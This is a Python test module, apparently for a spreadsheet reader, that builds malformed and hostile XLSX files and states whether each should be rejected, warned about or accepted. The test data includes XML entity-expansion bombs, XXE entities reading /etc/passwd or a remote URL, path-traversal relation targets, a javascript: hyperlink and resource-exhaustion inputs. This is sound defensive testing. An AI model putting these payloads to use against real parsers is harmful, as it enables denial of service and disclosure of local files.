"""Workbooks whose XML parts are hostile, odd, or written as other programs write them."""

from __future__ import annotations

from collections.abc import Iterable, Iterator
from xml.sax.saxutils import escape

from tests.hostile.case import Answer, Case, Holds, Required, accepted, either, holding, rejected, warned
from tests.hostile.elsewhere import SHARE, URL
from tests.hostile.workbook import (
    BOOK,
    BOOK_RELATIONS,
    DECLARED,
    MAIN,
    OFFICE,
    ROWS,
    SHEET,
    STRINGS,
    book_part,
    formula,
    number,
    parts,
    relation,
    relations,
    rows,
    sheet,
    strings,
    styles,
    text,
    typed,
    types,
    with_cells,
    with_sheet,
    xlsx,
)

_DAMAGED, _LARGE = "FILE_DAMAGED", "FILE_TOO_LARGE"
_BOTH = f"{_DAMAGED} {_LARGE} FILE_COSTLY FILE_KILLED"
_NO_TABLE = f"{_DAMAGED} FILE_EMPTY FILE_TYPE"
_RELS = "xl/_rels/workbook.xml.rels"
_SST, _STYLES = "xl/sharedStrings.xml", "xl/styles.xml"
_TWO = '<sheet name="Report" sheetId="1" r:id="rId1"/><sheet name="{}" sheetId="2" r:id="rId9"{}/>'
_OTHER = sheet(C6=number("C6", "99999"))
_LOL = (
    '<!DOCTYPE x [<!ENTITY a "lol">'
    + "".join(f'<!ENTITY {c} "{f"&{p};" * 10}">' for p, c in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
_STRICT = {"http://schemas.openxmlformats.org/spreadsheetml/2006/main": "http://purl.oclc.org/ooxml/spreadsheetml/main",
           "http://schemas.openxmlformats.org/officeDocument/2006/relationships": "http://purl.oclc.org/ooxml/officeDocument/relationships"}  # fmt: skip


def _doctype(declared: str, used: str = "") -> str:
    """Let the sheet declare a document type, and use an entity in a district's name."""
    part = sheet(A6=f'<c r="A6" t="inlineStr"><is><t>Northfield{used}</t></is></c>')
    return part.replace("<worksheet", f"{declared}<worksheet", 1)


def _quadratic() -> bytes:
    return with_sheet(_doctype(f'<!DOCTYPE x [<!ENTITY a "{"x" * 50_000}">]>', "&a;" * 20_000))


def _in(encoding: str, label: str = "北田", declared: str = "") -> bytes:
    part = sheet(A6=text("A6", label)).replace('encoding="UTF-8"', f'encoding="{declared or encoding}"')
    return with_sheet(part.encode(encoding))


def _huge_attribute() -> bytes:
    return with_sheet(sheet(C6=f'<c r="C6" x="{"y" * 20_000_000}"><v>12345</v></c>'))


def _rows(count: int) -> Iterator[str]:
    """Write the report with as many rows as a sheet holds."""
    yield rows().removesuffix("</row>") + "</row>"
    for n in range(8, count + 1):
        yield f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>Place {n}</t></is></c><c r="C{n}"><v>{n}</v></c></row>'


def _long() -> bytes:
    """Fill all rows of a sheet but the last."""
    return with_sheet(sheet("".join(_rows(1_048_575))))


def _full() -> bytes:
    """Fill the last two rows of a sheet."""
    last = "".join(
        f'<row r="{n}">{text(f"A{n}", f"Place {n}")}{number(f"C{n}", "5")}</row>' for n in (1_048_575, 1_048_576)
    )
    return with_sheet(sheet(rows() + last))


def _merged(*refs: str) -> bytes:
    listed = "".join(f'<mergeCell ref="{ref}"/>' for ref in refs)
    return with_sheet(sheet(after=f'<mergeCells count="{len(refs)}">{listed}</mergeCells>'))


def _many_merges() -> bytes:
    return _merged(*(f"E{n}:F{n}" for n in range(1, 50_001)))


def _many_names() -> bytes:
    listed = "".join(f'<definedName name="n{n}">Report!$A${n + 1}</definedName>' for n in range(50_000))
    return xlsx({BOOK: book_part(after=f"<definedNames>{listed}</definedNames>")})


def _prefixed() -> bytes:
    part = sheet().replace("</", "</x:").replace("<", "<x:").replace("<x:/x:", "</x:").replace("<x:?", "<?")
    return with_sheet(part.replace(f'xmlns="{MAIN}"', f'xmlns:x="{MAIN}"'))


def _two_sheets(name: str, about: str = "", part: str = _OTHER) -> bytes:
    more = relation("rId9", "worksheet", "worksheets/sheet2.xml")
    return xlsx(
        {
            BOOK: book_part(_TWO.format(name, about)),
            _RELS: relations(*BOOK_RELATIONS, more),
            "xl/worksheets/sheet2.xml": part,
        }
    )


def _external() -> bytes:
    link = '<Relationship Id="rId1" Type="{}/externalLinkPath" Target="file:///{}\\b.xlsx" TargetMode="External"/>'
    return xlsx(
        {
            SHEET: sheet(C6=formula("C6", "[1]Other!$A$1", "12345")),
            BOOK: book_part(after='<externalReferences><externalReference r:id="rId8"/></externalReferences>'),
            _RELS: relations(*BOOK_RELATIONS, relation("rId8", "externalLink", "externalLinks/externalLink1.xml")),
            "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{MAIN}" xmlns:r="{OFFICE}"><externalBook r:id="rId1"/></externalLink>',
            "xl/externalLinks/_rels/externalLink1.xml.rels": relations(link.format(OFFICE, SHARE)),
        }
    )


def _hyperlinked(target: str) -> bytes:
    return xlsx(
        {
            SHEET: sheet(after='<hyperlinks><hyperlink ref="A6" r:id="rId1"/></hyperlinks>'),
            "xl/worksheets/_rels/sheet1.xml.rels": relations(
                relation("rId1", "hyperlink", target, ' TargetMode="External"')
            ),
        }
    )


def _targeted(target: str, more: str = "") -> bytes:
    """Let the sheet's relation lead elsewhere."""
    return xlsx({_RELS: relations(relation("rId1", "worksheet", target, more), *BOOK_RELATIONS[1:])})


def _strict() -> bytes:
    told = {name: part.decode() for name, part in parts().items()}
    for usual, other in _STRICT.items():
        told = {name: part.replace(usual, other) for name, part in told.items()}
    return xlsx(told)


def _alternate() -> bytes:
    """Let the sheet offer a choice between two contents, as Office does for new features."""
    mc = ' xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:x14ac="urn:x14ac" mc:Ignorable="x14ac"'
    after = '<mc:AlternateContent><mc:Choice Requires="x14"><controls/></mc:Choice><mc:Fallback/></mc:AlternateContent>'
    return with_sheet(sheet(after=after, about=mc))


def _alternate_cells() -> bytes:
    mc = ' xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
    other = f'<mc:AlternateContent><mc:Choice Requires="x99"><row r="6">{number("C6", "99999")}</row></mc:Choice><mc:Fallback/></mc:AlternateContent>'
    return with_sheet(sheet(rows() + other, about=mc))


def _deep(depth: int) -> bytes:
    return with_sheet(sheet(after="<extLst>" + "<a>" * depth + "</a>" * depth + "</extLst>"))


def _attributes(count: int) -> bytes:
    return with_sheet(sheet(C6=f'<c r="C6" {" ".join(f"a{n}=" + chr(34) * 2 for n in range(count))}><v>12345</v></c>'))


def _poetry() -> bytes:
    """Refer 100,000 times to one string of 32 kB."""
    long = "x" * 32_767
    more = "".join(f'<row r="{n}"><c r="E{n}" t="s"><v>{len(STRINGS)}</v></c></row>' for n in range(9, 100_009))
    return xlsx({SHEET: sheet(rows() + more), _SST: strings(*STRINGS, long)})


def _strings_xml(items: str, about: str = "") -> bytes:
    return xlsx({_SST: f'{DECLARED}<sst xmlns="{MAIN}"{about}>{items}</sst>'})


def _si(first: str) -> str:
    """Write the shared strings, the district's one given as XML."""
    return "".join(first if t == "Northfield" else f"<si><t>{escape(t)}</t></si>" for t in STRINGS)


def _formatted(code: str, more: str = "") -> bytes:
    return xlsx({SHEET: sheet(C6=number("C6", "12345", 1)), _STYLES: styles(code, more=more)})


def _many_formats() -> bytes:
    return xlsx({_STYLES: styles(*(f"0.{'0' * (n % 20)};{n}" for n in range(64_000)))})


def _reordered() -> bytes:
    order = (7, 5, 1, 6)
    return with_sheet(sheet("".join(f'<row r="{n}">{"".join(ROWS[n].values())}</row>' for n in order)))


def _without_places() -> bytes:
    bare = rows(A2="", A3="", A4="")
    for n in range(1, 8):
        bare = bare.replace(f' r="{n}"', "")
        for c in "ABC":
            bare = bare.replace(f' r="{c}{n}"', "")
    return with_sheet(sheet(bare))


def _two_books() -> bytes:
    """Let the package name two workbooks, the second with 99999."""
    return xlsx(
        {
            "_rels/.rels": relations(
                relation("rId1", "officeDocument", BOOK), relation("rId2", "officeDocument", "xl/workbook2.xml")
            ),
            "xl/workbook2.xml": book_part(),
            "xl/_rels/workbook2.xml.rels": relations(
                relation("rId1", "worksheet", "worksheets/sheet2.xml"), *BOOK_RELATIONS[1:]
            ),
            "xl/worksheets/sheet2.xml": _OTHER,
        }
    )


def _elsewhere() -> bytes:
    """Keep all parts under other names, as some programs do."""
    moved = {
        "xl/workbook.xml": "content/book.xml",
        _RELS: "content/_rels/book.xml.rels",
        SHEET: "content/tab.xml",
        _STYLES: "content/st.xml",
        _SST: "content/ss.xml",
    }
    told: dict[str, str | bytes | None] = {moved.get(n, n): p for n, p in parts().items()}
    told["_rels/.rels"] = relations(relation("rId1", "officeDocument", "content/book.xml"))
    told["content/_rels/book.xml.rels"] = relations(
        relation("rId1", "worksheet", "tab.xml"),
        relation("rId2", "styles", "st.xml"),
        relation("rId3", "sharedStrings", "ss.xml"),
    )
    return xlsx({**dict.fromkeys(parts()), **told})


def _told_beside(cell: str) -> Holds:
    """Ask that the whole report is read, and a lone figure elsewhere is an error with its cell."""

    def holds(answer: Answer) -> Iterable[str]:
        found = {o["cell"]: str(o["obs_value"]) for o in answer.observations("Report.xlsx")}
        if found != {"B6": "7", "C6": "12345", "B7": "3", "C7": "678"}:
            yield f"read instead: {found}"
        told = [(f["code"], f["severity"], f["cell"]) for f in answer.findings("Report.xlsx")]
        if told != [("LAYOUT_UNSURE", "error", cell)]:
            yield f"told instead: {told}"
        if answer.code != 1:
            yield f"exit {answer.code}"

    return holds


CASES: tuple[Case, ...] = (
    rejected("c03_quadratic_sheet", "an entity of 50 kB used 20,000 times", _BOTH, _quadratic),
    rejected("c06_ext_dtd", "an external document type with a parameter entity", _DAMAGED, lambda: with_sheet(_doctype(f'<!DOCTYPE x SYSTEM "{URL}/x.dtd" [<!ENTITY % p SYSTEM "file:///etc/passwd">%p;]>'))),
    either("c09_gbk_sheet", "a sheet in GB2312", _DAMAGED, lambda: _in("gb2312"), label="北田"),
    rejected("c12_charref_nul", "references to characters 0 and 27", _DAMAGED, lambda: with_sheet(_doctype("", "&#0;&#27;"))),
    rejected("c14_huge_attr", "an attribute of 20 MB", _BOTH, _huge_attribute),
    rejected("c17_no_sheet_part", "the sheet's part is missing", _DAMAGED, lambda: xlsx({SHEET: None})),
    rejected("c20_no_wb_rels", "the workbook's relations are missing", _DAMAGED, lambda: xlsx({_RELS: None})),
    rejected("c23_sst_oob", "a shared string that is not there", _DAMAGED, lambda: with_cells(A6=typed("A6", "s", "999")), cell="A6"),
    warned("c26_style_oob", "a style that is not there", "FORMAT_MISSING", lambda: with_cells(C6=number("C6", "12345", 9999))),
    warned("c29_cellstyle_noname", "a cell style without a name", "", lambda: xlsx({_STYLES: styles(more='<cellStyles count="1"><cellStyle xfId="0" builtinId="0"/></cellStyles>')})),
    accepted("c32_ns_prefix", "elements with a prefix", _prefixed),
    rejected("c35_dup_cell", "C6 stands there twice, 12345 and 99999", _DAMAGED, lambda: with_cells(C6=number("C6", "12345") + number("C6", "99999")), cell="C6"),
    rejected("c38_row_cell_mismatch", "a cell of row 6 says it is C9", _DAMAGED, lambda: with_cells(C6=number("C6", "12345") + number("C9", "99999")), cell="C9"),
    rejected("c41_ref_XFE", "a cell XFE6, one beyond the last column", _DAMAGED, lambda: with_cells(D6=number("XFE6", "5"))),
    accepted("c44_richtext", "a district written in runs, with a guide to its sound", lambda: _strings_xml(_si('<si><r><t>東</t></r><r><rPr><b/></rPr><t>京</t></r><rPh sb="0" eb="2"><t>トウキョウ</t></rPh><phoneticPr fontId="1"/></si>')), label="東京"),
    accepted("c47_dim_huge", "the sheet says it is as large as a sheet can be", lambda: with_sheet(sheet(before='<dimension ref="A1:XFD1048576"/>'))),
    accepted("c50_dim_garbage", "the sheet says its size is #REF!", lambda: with_sheet(sheet(before='<dimension ref="#REF!"/>'))),
    # No header says what the far figure is: it is an error by itself, and costs the table beside it nothing.
    Case("c53_sparse_row", "a figure at the end of the row, in XFD6", Required.SET, holding(lambda: with_cells(D6=number("XFD6", "5")), "Report.xlsx"), holds=_told_beside("XFD6")),
    accepted("c56_1M_rows", "as many rows as a sheet holds", _long, others=frozenset(map(str, range(1_048_577))), seconds=900, mib=8192),
    warned("sheet_full", "words and figures in the last two rows of the sheet", "SHEET_FULL", _full, others=frozenset({"7", "3", "678", "5"})),
    rejected("c59_dup_sheetnames", "two sheets named Report, with 12345 and 99999", _DAMAGED, lambda: _two_sheets("Report")),
    rejected("c62_dangling_rid", "a listed sheet without a relation", _DAMAGED, lambda: xlsx({BOOK: book_part(_TWO.format("Other", ""))})),
    warned("c65_external_link", "C6 is taken from a workbook on somebody's server", "CELL_LINKED", _external),
    accepted("c68_merge_50k", "50,000 merged ranges", _many_merges),
    warned("c71_shared_formula_bad", "a shared formula without its first", "", lambda: with_cells(C6='<c r="C6"><f t="shared" si="7"/><v>12345</v></c>')),
    accepted("c74_names_50k", "50,000 defined names", _many_names),
    rejected("c77_chartsheet_only", "no sheet at all", _NO_TABLE, lambda: xlsx({BOOK: book_part("")})),
    warned("c80_hyperlink_js", "the district is a link that runs a script", "", lambda: _hyperlinked("javascript:alert(1)")),
    rejected("xml_lol", "a billion laughs in the shared strings", _DAMAGED, lambda: xlsx({_SST: strings().replace("<sst", f"{_LOL}<sst", 1).replace("Northfield", "&i;")})),
    rejected("xml_lol_workbook", "a billion laughs in the workbook's part", _DAMAGED, lambda: xlsx({BOOK: book_part().replace("<workbook", f"{_LOL}<workbook", 1).replace('"Report"', '"&i;"')})),
    rejected("xml_lol_rels", "a billion laughs in the relations", _DAMAGED, lambda: xlsx({_RELS: relations(*BOOK_RELATIONS).replace("<Relationships", f"{_LOL}<Relationships", 1)})),
    rejected("xml_lol_utf16", "a billion laughs in UTF-16", _DAMAGED, lambda: with_sheet(_doctype(_LOL, "&i;").replace('"UTF-8"', '"UTF-16"').encode("utf-16"))),
    rejected("xml_entity_file", "an entity that is a file of this machine", _DAMAGED, lambda: with_sheet(_doctype('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "&a;"))),
    rejected("xml_entity_http", "an entity that is a page somewhere", _DAMAGED, lambda: with_sheet(_doctype(f'<!DOCTYPE x [<!ENTITY a SYSTEM "{URL}/x">]>', "&a;"))),
    rejected("xml_entity_undeclared", "an entity that nothing declares", _DAMAGED, lambda: with_sheet(_doctype("", "&nbsp;"))),
    either("xml_doctype_empty", "a document type that declares nothing", _DAMAGED, lambda: with_sheet(_doctype("<!DOCTYPE worksheet>"))),
    either("xml_deep_100k", "100,000 elements within each other", _BOTH, lambda: _deep(100_000)),
    either("xml_deep_2M", "2,000,000 elements within each other", _BOTH, lambda: _deep(2_000_000)),
    either("xml_attributes_1M", "a cell with 1,000,000 attributes", _BOTH, lambda: _attributes(1_000_000)),
    rejected("xml_attribute_twice", "a cell that has an attribute twice", _DAMAGED, lambda: with_cells(C6='<c r="C6" r="C6"><v>12345</v></c>')),
    accepted("xml_cdata", "the figure as CDATA", lambda: with_cells(C6='<c r="C6"><v><![CDATA[12345]]></v></c>')),
    either("xml_split_figure", "a comment within the figure", _DAMAGED, lambda: with_cells(C6='<c r="C6"><v>123<!-- 9 -->45</v></c>')),
    either("xml_pi_in_figure", "an instruction within the figure", _DAMAGED, lambda: with_cells(C6='<c r="C6"><v>123<?x 9?>45</v></c>')),
    rejected("xml_element_in_figure", "an element within the figure", _DAMAGED, lambda: with_cells(C6='<c r="C6"><v>123<b>9</b>45</v></c>')),
    rejected("xml_two_figures", "two figures in one cell", f"{_DAMAGED} NUMBER_UNREAD", lambda: with_cells(C6='<c r="C6"><v>12345</v><v>99999</v></c>')),
    accepted("xml_comments", "comments with other figures between all elements", lambda: with_sheet(sheet(after="<!-- <v>99999</v> -->").replace("</c>", '</c><!-- <c r="C6"><v>99999</v></c> -->'))),
    accepted("xml_indented", "every element on its own line", lambda: with_sheet(sheet().replace("><", ">\n\t<"))),
    accepted("xml_single_quotes", "attributes in single quotes", lambda: with_sheet(sheet().replace('"', "'"))),
    accepted("xml_references", "the figure as numbers of characters", lambda: with_cells(C6='<c r="C6"><v>&#x31;&#50;345</v></c>')),
    accepted("xml_utf8_bom", "a byte-order mark before the sheet", lambda: with_sheet(b"\xef\xbb\xbf" + sheet().encode())),
    either("xml_two_boms", "two byte-order marks before the sheet", _DAMAGED, lambda: with_sheet(b"\xef\xbb\xbf\xef\xbb\xbf" + sheet().encode())),
    accepted("xml_utf16", "a sheet in UTF-16, as the standard allows", lambda: _in("utf-16", "北田"), label="北田"),
    either("xml_utf16_undeclared", "a sheet in UTF-16 that says it is UTF-8", _DAMAGED, lambda: _in("utf-16", "北田", "UTF-8"), label="北田"),
    either("xml_utf16_no_bom", "a sheet in UTF-16 without a byte-order mark", _DAMAGED, lambda: _in("utf-16-le", "北田", "UTF-16"), label="北田"),
    either("xml_utf32", "a sheet in UTF-32", _DAMAGED, lambda: _in("utf-32", "北田"), label="北田"),
    either("xml_latin1", "a sheet in ISO-8859-1", _DAMAGED, lambda: _in("iso-8859-1", "Nörtfield"), label="Nörtfield"),
    either("xml_big5", "a sheet in Big5", _DAMAGED, lambda: _in("big5", "北田"), label="北田"),
    rejected("xml_utf7", "a sheet that says it is UTF-7", _DAMAGED, lambda: with_sheet(sheet(A6=text("A6", "+ADw-script+AD4-")).replace("UTF-8", "UTF-7"))),
    rejected("xml_ebcdic", "a sheet in EBCDIC", _DAMAGED, lambda: _in("cp037", "Northfield")),
    rejected("xml_unknown_encoding", "a sheet in an encoding that does not exist", _DAMAGED, lambda: with_sheet(sheet().replace("UTF-8", "x-evil"))),
    rejected("xml_codec_trick", "a sheet whose encoding is a codec that unpacks", _DAMAGED, lambda: with_sheet(sheet().replace("UTF-8", "zlib_codec"))),
    rejected("xml_bad_utf8", "bytes in the district that are no UTF-8", _DAMAGED, lambda: with_sheet(sheet(A6=text("A6", "Northfield")).encode().replace(b"Northfield", b"North\xff\xfefield"))),
    rejected("xml_overlong", "a slash written overlong", _DAMAGED, lambda: with_sheet(sheet(A6=text("A6", "Northfield")).encode().replace(b"Northfield", b"North\xc0\xaffield"))),
    rejected("xml_surrogates", "half a pair of surrogates", _DAMAGED, lambda: with_sheet(sheet(A6=text("A6", "Northfield")).encode().replace(b"Northfield", b"North\xed\xa0\x80field"))),
    rejected("xml_surrogate_reference", "a reference to half a pair", _DAMAGED, lambda: with_sheet(_doctype("", "&#xD800;"))),
    rejected("xml_raw_escape", "an escape as it is", _DAMAGED, lambda: with_sheet(_doctype("", "\x1b[31m"))),
    rejected("xml_cut", "a sheet cut off in the middle, with a right check sum", _DAMAGED, lambda: with_sheet(sheet()[: len(sheet()) * 2 // 3])),
    rejected("xml_two_roots", "two sheets in one part", _DAMAGED, lambda: with_sheet(sheet() + sheet(C6=number("C6", "99999")).removeprefix(DECLARED))),
    rejected("xml_zeros_behind", "zeros behind the sheet", _DAMAGED, lambda: with_sheet(sheet().encode() + bytes(100))),
    rejected("xml_empty_part", "a sheet of no byte", _DAMAGED, lambda: with_sheet("")),
    rejected("xml_html_part", "a web page in place of the sheet", f"{_DAMAGED} FILE_BLANK", lambda: with_sheet("<html><body><p>12345</p></body></html>")),
    rejected("xml_other_root", "a chart in place of the sheet", f"{_DAMAGED} FILE_BLANK", lambda: with_sheet(f'<chartsheet xmlns="{MAIN}"/>')),
    either("xml_other_namespace", "cells of another namespace before the right ones", _DAMAGED, lambda: with_sheet(sheet(C6='<x:c xmlns:x="urn:x" r="C6"><x:v>99999</x:v></x:c>' + number("C6", "12345")))),
    either("xml_second_data", "a second set of rows with 99999", _DAMAGED, lambda: with_sheet(sheet(after=f"<sheetData><row r=\"6\">{number('C6', '99999')}</row></sheetData>"))),
    either("xml_rows_elsewhere", "rows with 99999 outside the set of rows", _DAMAGED, lambda: with_sheet(sheet(after=f'<extLst><ext><row r="6">{number("C6", "99999")}</row></ext></extLst>'))),
    accepted("xml_alternate", "contents to choose between, as Office writes them", _alternate),
    either("xml_alternate_cells", "a row with 99999 for programs that know more", _DAMAGED, _alternate_cells),
    accepted("xml_standalone_no", "a declaration that says standalone=no", lambda: with_sheet(sheet().replace('"yes"', '"no"'))),
    accepted("xml_no_declaration", "no declaration", lambda: with_sheet(sheet().removeprefix(DECLARED))),
    either("xml_version_11", "XML 1.1", _DAMAGED, lambda: with_sheet(sheet().replace('version="1.0"', 'version="1.1"'))),
    accepted("xml_strict", "the strict variant of the standard", _strict),
    either("rels_elsewhere", "all parts under other names", "FILE_TYPE", _elsewhere),
    accepted("rels_absolute", "the sheet by its absolute name", lambda: _targeted("/xl/worksheets/sheet1.xml")),
    accepted("rels_up_and_down", "the sheet by way of the folder above", lambda: _targeted("../xl/worksheets/sheet1.xml")),
    rejected("rels_outside", "the sheet is a file of this machine", _DAMAGED, lambda: _targeted("../../../../etc/passwd")),
    rejected("rels_file_url", "the sheet is a file by its address", _DAMAGED, lambda: _targeted("file:///etc/passwd", ' TargetMode="External"')),
    rejected("rels_http", "the sheet is a page somewhere", _DAMAGED, lambda: _targeted(f"{URL}/sheet1.xml", ' TargetMode="External"')),
    either("rels_external_mode", "the sheet is said to be outside though its name is of a part", _DAMAGED, lambda: _targeted("worksheets/sheet1.xml", ' TargetMode="External"')),
    rejected("rels_loop", "the sheet is the workbook itself", f"{_DAMAGED} FILE_BLANK", lambda: _targeted("workbook.xml")),
    rejected("rels_empty", "the sheet's relation leads nowhere", _DAMAGED, lambda: _targeted("")),
    rejected("rels_id_twice", "two relations of one id, to sheets with 12345 and 99999", _DAMAGED, lambda: xlsx({_RELS: relations(*BOOK_RELATIONS, relation("rId1", "worksheet", "worksheets/sheet2.xml")), "xl/worksheets/sheet2.xml": _OTHER})),
    *(warned(f"rels_{kind.lower()}", f"another sheet that is a {kind}, with 99999", "FILE_MACROS", lambda kind=kind, place=place: xlsx({BOOK: book_part(_TWO.format("Other", "")), _RELS: relations(*BOOK_RELATIONS, relation("rId9", kind, f"{place}/sheet2.xml")), f"xl/{place}/sheet2.xml": _OTHER})) for kind, place in (("xlMacrosheet", "macrosheets"), ("dialogsheet", "dialogsheets"))),
    either("rels_same_part_twice", "two sheets that are one part", f"{_DAMAGED} SHEET_COPY", lambda: xlsx({BOOK: book_part(_TWO.format("Again", "")), _RELS: relations(*BOOK_RELATIONS, relation("rId9", "worksheet", "worksheets/sheet1.xml"))})),
    either("rels_two_books", "two workbooks in a package, the second with 99999", _DAMAGED, _two_books),
    either("rels_no_root", "no relations of the package", _DAMAGED, lambda: xlsx({"_rels/.rels": None})),
    rejected("rels_root_missing", "the package's workbook is not there", _DAMAGED, lambda: xlsx({"_rels/.rels": relations(relation("rId1", "officeDocument", "xl/book.xml"))})),
    either("rels_two_strings", "two parts of shared strings", _DAMAGED, lambda: xlsx({_RELS: relations(*BOOK_RELATIONS, relation("rId7", "sharedStrings", "other.xml")), "xl/other.xml": strings(*reversed(STRINGS))})),
    rejected("rels_no_strings", "the part of shared strings is missing", _DAMAGED, lambda: xlsx({_SST: None})),
    accepted("rels_no_styles", "the part of styles is missing", lambda: xlsx({_STYLES: None})),
    either("rels_no_types", "the list of types is missing", _DAMAGED, lambda: xlsx({"[Content_Types].xml": None})),
    either("rels_types_lie", "the list of types says the workbook is a Word document", f"{_DAMAGED} FILE_TYPE", lambda: xlsx({"[Content_Types].xml": types(main="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")})),
    accepted("rels_dangling_drawing", "a drawing that is not there, as yearbooks have", lambda: xlsx({SHEET: sheet(after='<drawing r:id="rId1"/>'), "xl/worksheets/_rels/sheet1.xml.rels": relations(relation("rId1", "drawing", "../drawings/drawing1.xml"))})),
    accepted("rels_attached_template", "a template on somebody's server", lambda: xlsx({"xl/worksheets/_rels/sheet1.xml.rels": relations(relation("rId1", "attachedTemplate", f"{URL}/t.dotm", ' TargetMode="External"'))})),
    accepted("rels_remote_image", "a picture on somebody's server", lambda: xlsx({SHEET: sheet(after='<picture r:id="rId1"/>'), "xl/worksheets/_rels/sheet1.xml.rels": relations(relation("rId1", "image", f"{URL}/i.png", ' TargetMode="External"'))})),
    accepted("rels_hyperlink_unc", "the district is a link to somebody's server", lambda: _hyperlinked(f"file:///{SHARE}")),
    accepted("sst_counts_lie", "the strings say there are 4,294,967,295 of them", lambda: xlsx({_SST: strings(about=' count="4294967295" uniqueCount="4294967295"')})),
    accepted("sst_counts_negative", "the strings say there are -1 of them", lambda: xlsx({_SST: strings(about=' count="-1" uniqueCount="-1"')})),
    accepted("sst_counts_words", "the strings say there are many of them", lambda: xlsx({_SST: strings(about=' count="many" uniqueCount="many"')})),
    either("sst_100k_references", "100,000 cells refer to one string of 32 kB", _BOTH, _poetry),
    rejected("sst_empty_si", "the district's string is empty", "ROW_UNNAMED", lambda: _strings_xml(_si("<si/>")), cell="B6"),
    accepted("sst_runs_only", "the district in ten runs", lambda: _strings_xml(_si(f"<si>{''.join(f'<r><t>{c}</t></r>' for c in 'Northfield')}</si>"))),
    accepted("sst_phonetic_only_after", "a guide to the sound of the district's name", lambda: _strings_xml(_si('<si><t>Northfield</t><rPh sb="0" eb="1"><t>99999</t></rPh></si>'))),
    rejected("sst_negative", "shared string -1", _DAMAGED, lambda: with_cells(A6=typed("A6", "s", "-1")), cell="A6"),
    rejected("sst_fraction", "shared string 1.5", _DAMAGED, lambda: with_cells(A6=typed("A6", "s", "1.5")), cell="A6"),
    rejected("sst_figure_oob", "the figure is a shared string that is not there", _DAMAGED, lambda: with_cells(C6=typed("C6", "s", "999")), cell="C6"),
    rejected("sst_superscript_digits", "shared string ²", _DAMAGED, lambda: with_cells(A6=typed("A6", "s", "²")), cell="A6"),
    rejected("cell_nine_letters", "a cell whose reference has nine letters", _DAMAGED, lambda: with_cells(D6=number("ABCDEFGHI6", "5"))),
    Case("cell_lone_corner", "a lone figure in the last corner of the sheet", Required.SET, holding(lambda: with_sheet(sheet(rows() + f'<row r="1048576">{number("XFD1048576", "5")}</row>')), "Report.xlsx"), holds=_told_beside("XFD1048576")),
    either("cell_far_text", "a lone word in XFD200000", f"{_BOTH} LAYOUT_UNSURE", lambda: with_sheet(sheet(rows() + f'<row r="200000">{text("XFD200000", "x")}</row>'))),
    rejected("cell_row_0", "a cell in row 0", _DAMAGED, lambda: with_sheet(sheet(f'<row r="0">{number("A0", "5")}</row>' + rows()))),
    rejected("cell_row_beyond", "a cell in row 1,048,577", _DAMAGED, lambda: with_sheet(sheet(rows() + f'<row r="1048577">{number("A1048577", "5")}</row>'))),
    rejected("cell_row_negative", "a row -6", _DAMAGED, lambda: with_sheet(sheet(rows().replace('<row r="6">', '<row r="-6">')))),
    either("cell_row_huge", "a row of thirty digits", _DAMAGED, lambda: with_sheet(sheet(rows() + f'<row r="{"9" * 30}"/>'))),
    rejected("cell_row_word", "a row named six", _DAMAGED, lambda: with_sheet(sheet(rows().replace('<row r="6">', '<row r="six">')))),
    either("cell_lowercase", "references in small letters", _DAMAGED, lambda: with_cells(C6=number("c6", "12345"))),
    rejected("cell_r1c1", "a reference as R6C3", _DAMAGED, lambda: with_cells(C6=number("R6C3", "12345"))),
    either("cell_dollars", "a reference as $C$6", _DAMAGED, lambda: with_cells(C6=number("$C$6", "12345"))),
    either("cell_leading_zero", "a reference as C06", _DAMAGED, lambda: with_cells(C6=number("C06", "12345"))),
    rejected("cell_fullwidth", "a reference in full-width letters", _DAMAGED, lambda: with_cells(C6=number("Ｃ6", "12345"))),
    rejected("cell_no_letters", "a reference without letters", _DAMAGED, lambda: with_cells(C6=number("6", "12345"))),
    accepted("cell_no_places", "no row and no cell says where it is", _without_places),
    accepted("cell_rows_disordered", "rows in another order", _reordered),
    accepted("cell_spans_lie", "a row that says its cells stand elsewhere", lambda: with_sheet(sheet().replace('<row r="6"', '<row r="6" spans="900:16384"'))),
    either("cell_row_twice", "row 6 stands there twice, the second time with D6", _DAMAGED, lambda: with_sheet(sheet(rows() + f'<row r="6">{text("D6", "x")}</row>'))),
    rejected("cell_row_twice_clash", "row 6 stands there twice, the second time with 99999 at C6", _DAMAGED, lambda: with_sheet(sheet(rows() + f'<row r="6">{number("C6", "99999")}</row>'))),
    either("cell_cols_disordered", "the cells of a row in another order", _DAMAGED, lambda: with_sheet(sheet().replace(ROWS[6]["B6"], "").replace(ROWS[6]["C6"], ROWS[6]["C6"] + ROWS[6]["B6"]))),
    rejected("cell_type_unknown", "a cell of a type that does not exist", f"{_DAMAGED} NUMBER_UNREAD", lambda: with_cells(C6=typed("C6", "zz", "99999")), others=frozenset({"7", "3", "678"})),
    either("cell_type_empty", "a cell of an empty type", f"{_DAMAGED} NUMBER_UNREAD", lambda: with_cells(C6=typed("C6", "", "12345"))),
    either("cell_vm", "a cell that refers to a value elsewhere", _DAMAGED, lambda: with_cells(C6='<c r="C6" vm="1" cm="1"><v>12345</v></c>')),
    rejected("style_word", "a style that is no number", _DAMAGED, lambda: with_cells(C6='<c r="C6" s="bold"><v>12345</v></c>')),
    either("style_negative", "style -1", _DAMAGED, lambda: with_cells(C6='<c r="C6" s="-1"><v>12345</v></c>')),
    accepted("style_64k", "64,000 formats", _many_formats),
    accepted("style_garbage", "a format that is garbage", lambda: _formatted('[[[;;;"\\')),
    accepted("style_long", "a format of 100,000 letters", lambda: _formatted("#" * 100_000)),
    accepted("style_quoted_percent", "a format with a percent sign in quotes", lambda: _formatted('0"%"')),
    accepted("style_quoted_date", "a format with the letters of a date in quotes", lambda: _formatted('0" ymd"')),
    accepted("style_colour", "a format in red with a condition", lambda: _formatted("[Red][>100]0;[Blue]0")),
    accepted("style_unit_behind", "a format that writes a unit", lambda: _formatted('0"人次"')),
    either("style_id_word", "a format whose number is a word", _DAMAGED, lambda: xlsx({_STYLES: styles().replace("<cellXfs>", '<numFmts><numFmt numFmtId="x" formatCode="0"/></numFmts><cellXfs>')})),
    either("style_broken_part", "styles that are cut off", _DAMAGED, lambda: xlsx({_STYLES: styles()[:-20]})),
